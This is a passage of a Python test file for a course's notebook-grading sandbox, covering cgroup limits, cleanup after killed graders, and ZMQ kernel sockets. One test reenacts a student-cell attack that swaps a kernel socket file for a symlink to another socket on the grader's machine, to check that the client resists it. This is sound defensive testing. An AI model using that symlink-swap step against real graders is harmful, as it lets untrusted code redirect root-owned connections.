    """A host that mounts v1 controllers and an empty cgroup v2 hierarchy beside them (systemd's
    hybrid mode): v2 offers none of the three controllers, so the budget is v1's, and the group
    is ended at once with the unified hierarchy's cgroup.kill. Run in a private mount namespace
    with a real cgroup2 mount; skipped where cgroup v1 or unshare is not available."""
    from course_admin import cgroup

    if cgroup.create(cgroup.Budget())[0] is None or not Path("/usr/bin/unshare").exists():
        pytest.skip("needs root with cgroup v1 controllers (as this course's CI has)")
    script = tmp_path / "hybrid.py"
    script.write_text(f'''
import subprocess, sys, time
sys.path.insert(0, {str(Path(__file__).parents[1])!r})
subprocess.run(["mount", "-t", "cgroup2", "none", {str(tmp_path / "unified")!r}], check=True)
from course_admin import cgroup
made, problem = cgroup.create(cgroup.Budget(memory_mb=128, cpus=0.25, pids=20))
print("version", made.version, "kill", made.kill_file is not None)
sleeper = subprocess.Popen(cgroup.wrap(made, ["sleep", "300"]))
deadline = time.monotonic() + 10  # until the wrapper has moved itself into the group and run sleep
while sleeper.pid not in made.pids() and time.monotonic() < deadline:
    time.sleep(0.05)
print("inside", sleeper.pid in made.pids())
print("removed", made.remove())
print("ended", sleeper.wait(timeout=10))
''')
    (tmp_path / "unified").mkdir()
    done = subprocess.run(["unshare", "--mount", "--propagation", "private", sys.executable, str(script)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split("\n")[:4] == ["version 1 kill True", "inside True", "removed True", "ended -9"], done.stdout


def test_the_grading_client_connects_to_the_kernels_own_sockets_not_to_what_their_names_become(tmp_path):
    """The kernel's ZMQ socket files lie in its own folder: a cell could replace one with a link
    to another socket of the grader's machine, which ZMQ's reconnection (or the iopub channel
    made again after a dropped message) would follow as root. The client holds the sockets it
    found at start-up and connects through them."""
    import asyncio

    import zmq

    from course_admin import kernels

    ports = {"shell_port": 1, "iopub_port": 2, "stdin_port": 3, "control_port": 4, "hb_port": 5}
    context = zmq.Context.instance()
    kinds = {1: zmq.ROUTER, 2: zmq.PUB, 3: zmq.ROUTER, 4: zmq.ROUTER, 5: zmq.REP}
    bound = {port: context.socket(kinds[port]) for port in ports.values()}
    for port, sock in bound.items():
        sock.bind(f"ipc://{tmp_path}/k-{port}")
    elsewhere = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)  # a socket of the grader's machine
    elsewhere.bind(str(tmp_path / "elsewhere.sock"))
    elsewhere.listen(4)
    elsewhere.settimeout(1.0)
    client = kernels.BoundedKernelClient(transport="ipc", ip=str(tmp_path / "k"), **ports)

    async def receive(seconds: float) -> bool:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            bound[2].send(b"small")
            try:
                if await asyncio.wait_for(client.iopub_channel.socket.recv(), 0.2) == b"small":
                    return True
            except asyncio.TimeoutError:
                pass
        return False

    try:
        client._pin_sockets(wait=5)
        os.rename(tmp_path / "k-2", tmp_path / "k-2.kept")  # the kernel's cell, after start-up
        os.symlink(tmp_path / "elsewhere.sock", tmp_path / "k-2")
        assert asyncio.run(receive(5)), "the iopub channel reaches the kernel's own socket"
        with pytest.raises(socket.timeout):
            elsewhere.accept()
    finally:
        client.stop_channels()
        for sock in bound.values():
            sock.close(linger=0)
        elsewhere.close()
    os.rename(tmp_path / "k-2.kept", tmp_path / "k-3.gone")
    os.unlink(tmp_path / "k-3")
    os.symlink(tmp_path / "elsewhere.sock", tmp_path / "k-3")  # replaced before the client connected
    with pytest.raises(kernels.KernelGone, match="replaced"):
        kernels.BoundedKernelClient(transport="ipc", ip=str(tmp_path / "k"), **ports)._pin_sockets(wait=1)


def test_what_a_killed_grader_left_is_removed_by_the_next_one_and_nothing_of_a_live_one(tmp_path):
    """A grader killed with SIGKILL (a lost cluster worker, an impatient instructor) leaves its
    sandbox's cgroup, maybe a kernel still in it, and its grading folder with the capped mount.
    Names carry the grader's pid: the next grader removes a dead grader's, never a live one's."""
    from course_admin import cgroup, kernels, sandbox

    if cgroup.create(cgroup.Budget())[0] is None:
        pytest.skip("needs root with cgroups (as this course's CI has)")
    ended = subprocess.Popen(["true"])
    ended.wait()
    dead, alive = ended.pid, os.getpid()
    sibling, _ = cgroup.create(cgroup.Budget(pids=20), name=f"{cgroup.PREFIX}{alive}-test")
    leftover, _ = cgroup.create(cgroup.Budget(pids=20), name=f"{cgroup.PREFIX}{dead}-test")  # (sweeps first)
    orphan = subprocess.Popen(cgroup.wrap(leftover, ["sleep", "300"]))
    parent = tmp_path / "scratch"
    parent.mkdir()
    old = parent / f"{kernels.KERNEL_FOLDER_PREFIX}{dead}-abc"
    (old / "k").mkdir(parents=True)
    assert sandbox.cap_folder(old / "k") is None
    (old / "k" / "guard.jsonl").write_text("x")
    (old / "k" / "link").symlink_to(tmp_path / "keep")
    (tmp_path / "keep").write_text("the kernel's link must not be followed")
    live = parent / f"{kernels.KERNEL_FOLDER_PREFIX}{alive}-def"
    live.mkdir()
    try:
        _wait_until(lambda: orphan.pid in leftover.pids(), seconds=10)
        assert orphan.pid in leftover.pids()
        folder, _, _ = kernels.kernel_folders(str(parent))
        made, _ = cgroup.create(cgroup.Budget(pids=20))
        assert not any(f.exists() for f in leftover.folders), "a dead grader's cgroup was kept"
        assert orphan.wait(timeout=10) == -9, "its kernel was not ended"
        assert not old.exists() and not os.path.ismount(old / "k")
        assert (tmp_path / "keep").read_text().startswith("the kernel's")
        assert all(f.exists() for f in sibling.folders) and live.exists(), "a live grader's things were removed"
        assert made.folders[0].name.startswith(f"{cgroup.PREFIX}{alive}-") and folder.name.startswith(
            f"{kernels.KERNEL_FOLDER_PREFIX}{alive}-")
        made.remove()
    finally:
        orphan.kill()
        for group in (leftover, sibling):
            group.remove()
        if os.path.ismount(old / "k"):
            sandbox.release_folder(old / "k")
